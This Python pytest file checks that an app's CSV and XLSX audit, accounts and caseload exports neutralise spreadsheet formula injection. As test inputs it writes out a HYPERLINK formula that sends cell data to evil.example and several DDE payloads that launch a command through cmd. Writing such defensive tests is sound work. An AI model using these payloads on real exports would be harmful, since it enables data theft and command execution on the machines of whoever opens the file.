"""Exports cannot attack their reader: hostile text typed into the dashboard comes back inert.

A user name typed at sign-in, a child id typed into a URL, a caseload search term and a display
name all reach the audit log or the accounts table; each is fed in through the running app and
read back from ``/export/*.csv`` with a CSV reader and ``/export/*.xlsx`` with openpyxl.
"""
from __future__ import annotations

import csv
import io
from urllib.parse import quote

import pytest
from openpyxl import load_workbook

from carepath.safe_cells import FORMULA_STARTS
from tests.web.conftest import csrf_of, sign_in

TYPED_NAME = '=hyperlink("http://evil.example/?"&a1,"open")'
URL_CHILD = "+1+cmd|' /c calc'!a0"
SEARCH = "@sum(1+9)*cmd|' /c calc'!a0"
DISPLAY = "-2+3+cmd|' /c calc'!a0"
CONTROL_NAME = "ab\x07c\x00d"        # two characters a workbook cannot hold
HIDDEN = "\t=1+1"


def _csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _xlsx_cells(body: bytes):
    sheet = load_workbook(io.BytesIO(body)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _feed(client_as):
    """Put every hostile string into the audit log and the accounts, through the app."""
    stranger = client_as(None)
    for name in (TYPED_NAME, CONTROL_NAME):
        assert "problem=wrong" in sign_in(stranger, name, "not the password").headers["location"]
    admin = client_as("analyst")
    assert admin.get("/children/child/" + quote(URL_CHILD, safe="")).status_code in (403, 404)
    lead = client_as("lead")
    assert lead.get("/children", params={"q": SEARCH}).status_code == 200
    for username, display in (("mallory", DISPLAY), ("trudy", HIDDEN)):
        form = {"username": username, "password": "a long password", "role": "team_manager", "la_code": "846",
                "unit": "846/T2", "display_name": display, "csrf_token": csrf_of(admin)}
        assert admin.post("/admin/users", data=form).status_code == 200
    return admin


def test_hostile_text_in_the_audit_and_accounts_csv_is_inert(client_as):
    admin = _feed(client_as)
    audit = admin.get("/export/audit.csv")
    users = admin.get("/export/users.csv")
    assert audit.status_code == users.status_code == 200
    cells = [c for body in (audit.content, users.content) for row in _csv_rows(body) for c in row]
    # nothing a spreadsheet would run: every cell starting with = + - @ tab or CR is a plain number
    live = [c for c in cells if c.startswith(FORMULA_STARTS) and not c.lstrip("+-").replace(".", "").isdigit()]
    assert live == []
    # ... and each hostile string is there, as text after an apostrophe
    for typed in (TYPED_NAME, URL_CHILD, DISPLAY, HIDDEN):
        assert "'" + typed in cells, typed
    assert "children in scope matching " + SEARCH in cells
    assert "ab\\x07c\\x00d" in cells                      # control characters escaped, visibly


def test_hostile_text_in_the_audit_and_accounts_xlsx_is_text_and_the_workbook_opens(client_as):
    admin = _feed(client_as)
    audit = admin.get("/export/audit.xlsx")            # a control character once made this a server error
    users = admin.get("/export/users.xlsx")
    assert audit.status_code == users.status_code == 200
    cells = _xlsx_cells(audit.content) + _xlsx_cells(users.content)
    assert [c.value for c in cells if c.data_type == "f"] == []
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for typed in (TYPED_NAME, URL_CHILD, DISPLAY, HIDDEN):
        assert typed in texts and texts[typed].quotePrefix, typed          # kept exactly, as text
    assert "children in scope matching " + SEARCH in texts
    assert "ab\\x07c\\x00d" in texts
    numbers = [c.value for c in cells if c.column == 1 and c.row > 1 and c.parent.title == "audit"]
    assert numbers[-1].startswith("Entries 1 to ")                      # the note under the table
    assert numbers[:-1] and all(isinstance(n, int) for n in numbers[:-1])   # the audit numbers stay numbers


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_caseload_search_term_does_not_break_its_export(client_as, fmt):
    lead = client_as("lead")
    response = lead.get(f"/export/caseload.{fmt}", params={"q": SEARCH})
    assert response.status_code == 200
